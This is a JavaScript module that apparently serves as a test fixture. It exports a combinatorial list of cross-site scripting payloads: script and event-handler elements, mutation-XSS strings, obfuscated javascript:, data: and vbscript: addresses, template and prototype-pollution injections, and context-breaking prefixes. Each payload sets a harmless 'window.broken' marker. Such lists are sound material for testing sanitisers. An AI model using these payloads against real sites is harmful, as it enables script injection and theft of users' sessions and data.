// Strings that would run a script in a page that reads one of them as markup, as an address or as code. Each calls `act`.

const act = 'window.broken=1';

// Elements that act by themselves when they are parsed.
const elements = [
  `<script>${act}</script>`,
  `<SCRIPT>${act}</SCRIPT>`,
  `<script src="data:text/javascript,${act}"></script>`,
  `<script type="module">${act}</script>`,
  `<img src=x onerror=${act}>`,
  `<img src=x onerror="${act}">`,
  `<img/src=x/onerror=${act}>`,
  `<svg onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><set onbegin=${act} attributeName=x>`,
  `<body onload=${act}>`,
  `<body onpageshow=${act}>`,
  `<video><source onerror=${act}></video>`,
  `<video src=x onerror=${act}>`,
  `<audio src=x onerror=${act}>`,
  `<input autofocus onfocus=${act}>`,
  `<select autofocus onfocus=${act}>`,
  `<textarea autofocus onfocus=${act}>`,
  `<details open ontoggle=${act}>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<iframe src="javascript:parent.${act}"></iframe>`,
  `<object data="javascript:parent.${act}"></object>`,
  `<embed src="javascript:parent.${act}">`,
  `<form action="javascript:${act}"><button autofocus onfocus=${act}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  `<base href="javascript:${act}//">`,
  `<link rel=stylesheet href=x onerror=${act}>`,
  `<style>@import "x";</style><style onload=${act}></style>`,
  `<marquee onstart=${act}>x</marquee>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${act}>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<template><script>${act}</script></template>`,
  `<p style="animation:x" onanimationstart=${act}>x</p>`,
];

// What would have to end before an element can begin.
const before = ['', '">', "'>", '</title>', '</textarea>', '</script>', '-->', ']]>', '" autofocus ', '<b>'];

// Ways of hiding an address that acts.
const addresses = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  ` javascript:${act}`,
  `\tjavascript:${act}`,
  `java\tscript:${act}`,
  `java\nscript:${act}`,
  `\u0001javascript:${act}`,
  `javascript&colon;${act}`,
  `&#106;avascript:${act}`,
  `javascript://courier.example/%0a${act}`,
  `javascript:/*https://courier.example/*/${act}`,
  `vbscript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuYnJva2VuPTE8L3NjcmlwdD4=`,
  `blob:https://courier.example/${act}`,
  `file:///etc/passwd#${act}`,
  `//javascript:${act}`,
  `https:javascript:${act}`,
  `feed:javascript:${act}`,
  `view-source:javascript:${act}`,
];

// Texts that act where a page builds code, templates or patterns out of them.
const code = [
  `';${act};//`,
  `";${act};//`,
  '`;' + `${act};//`,
  '${' + `${act}` + '}',
  '{{' + `constructor.constructor('${act}')()` + '}}',
  `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
  `%3Cscript%3E${act}%3C/script%3E`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `\u2028${act}\u2029`,
  `" onmouseover="${act}`,
  `' onfocus='${act}' autofocus='`,
  `x" style="background:url(javascript:${act})`,
  `__proto__[broken]=1`,
  `constructor`,
  `<!--<img src="--><img src=x onerror=${act}//">`,
  `<![CDATA[<img src=x onerror=${act}>]]>`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${act}</script>`,
  `\u202e<img src=x onerror=${act}>`,
];

export const stringsThatAct = [...before.flatMap((start) => elements.map((element) => start + element)), ...addresses, ...code];
